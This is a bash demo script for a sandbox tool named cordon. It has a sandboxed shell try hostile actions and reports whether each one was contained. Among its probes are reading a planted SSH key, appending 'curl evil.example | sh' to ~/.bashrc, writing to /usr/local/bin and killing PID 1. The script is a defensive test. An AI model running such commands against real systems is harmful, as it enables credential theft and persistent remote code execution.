#!/bin/bash
# `make run`: cordon's main job on an embedded default, shown to a newcomer.
# A sandboxed shell tries to read a planted secret, write outside its
# workspace and reach the network; it can still work in its workspace.
set -u
CORDON=${1:-build/cordon}
CORDON=$(cd "$(dirname "$CORDON")" && pwd)/$(basename "$CORDON")
# Not under /tmp: the sandbox has a private /tmp of its own.
demo=$(mktemp -d /var/tmp/cordon-demo.XXXXXX)
chmod 755 "$demo"
trap 'rm -rf "$demo"' EXIT
mkdir -p "$demo/home/.ssh" "$demo/project"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (planted demo secret)" > "$demo/home/.ssh/id_ed25519"
chmod 700 "$demo/home/.ssh"
echo 'echo hello from bashrc' > "$demo/home/.bashrc"

bold=$(printf '\033[1m'); green=$(printf '\033[32m'); red=$(printf '\033[31m'); off=$(printf '\033[0m')
[ -t 1 ] || { bold=; green=; red=; off=; }
fails=0
say() { printf '%s\n' "$*"; }
result() { # result OK|HOLE what detail
	if [ "$1" = OK ]; then printf '  %s[held]%s %s\n' "$green" "$off" "$2"
	else printf '  %s[HOLE]%s %s\n' "$red" "$off" "$2"; fails=$((fails + 1)); fi
	[ -n "${3:-}" ] && printf '         %s\n' "$3"
}

say "${bold}cordon demo${off}: $("$CORDON" --version)"
say "workspace: $demo/project   planted secret: $demo/home/.ssh/id_ed25519"
say ""
say "\$ cordon run -- sh   (HOME=$demo/home; built-in policy, nothing configured)"
cd "$demo/project" || exit 1
run() { HOME="$demo/home" "$CORDON" run -- sh -c "$1" 2>&1; }
# cordon itself must start: a set-up error is not a wall that held.
if ! out=$(run true); then
	printf '%s\n' "$out"
	say "${red}cordon could not start a sandbox on this machine${off}: see the message above."
	exit 1
fi

out=$(run 'cat ~/.ssh/id_ed25519')
case $out in *PRIVATE*) result HOLE "read the planted SSH key" "$out" ;;
*) result OK "read the planted SSH key" "${out:-(empty)}" ;; esac

out=$(run 'echo "curl evil.example | sh" >> ~/.bashrc')
if grep -q evil "$demo/home/.bashrc"; then result HOLE "append to ~/.bashrc" "$out"
else result OK "append to ~/.bashrc (runs later, outside the sandbox)" "$out"; fi

out=$(run 'touch /usr/local/bin/evil')
if [ -e /usr/local/bin/evil ]; then result HOLE "write to /usr/local/bin" "$out"
else result OK "write to /usr/local/bin" "$out"; fi

out=$(run 'kill -9 1 2>&1; ls /proc | grep -c "^[0-9]"')
result OK "see host processes: $(echo "$out" | tail -1) pids visible (sandbox only)"

out=$(HOME="$demo/home" "$CORDON" run -- /usr/bin/python3 -c 'import socket; socket.create_connection(("192.0.2.1", 80), timeout=2)' 2>&1 | tail -1)
case $out in *nreachable*|*refused*|*denied*|*Errno*) result OK "open a raw network connection" "$out" ;;
*) result HOLE "open a raw network connection" "$out" ;; esac

out=$(run 'curl -s -m 5 http://example.com/ 2>&1 | head -1')
case $out in *denied*) result OK "fetch a site the policy does not list (through the proxy)" "$out" ;;
*) result HOLE "fetch a site the policy does not list" "$out" ;; esac

out=$(run 'id -u; grep CapEff /proc/self/status')
result OK "privileges: uid $(echo "$out" | head -1), $(echo "$out" | tail -1 | tr -s '\t ' ' ')"

out=$(run 'echo "int main(void){return 0;}" > main.c && echo built > result.txt && cat result.txt')
if [ -f "$demo/project/result.txt" ]; then
	printf '  %s[works]%s write in the workspace: %s\n' "$green" "$off" "$(cat "$demo/project/result.txt")"
else
	printf '  %s[BROKEN]%s write in the workspace: %s\n' "$red" "$off" "$out"; fails=$((fails + 1))
fi
say ""
if [ "$fails" -eq 0 ]; then
	say "Every wall held, and the workspace stayed writable. Try it: $CORDON run -- bash"
else
	say "${red}$fails check(s) failed${off}: the boundary does not hold on this machine."
fi
[ "$fails" -eq 0 ]
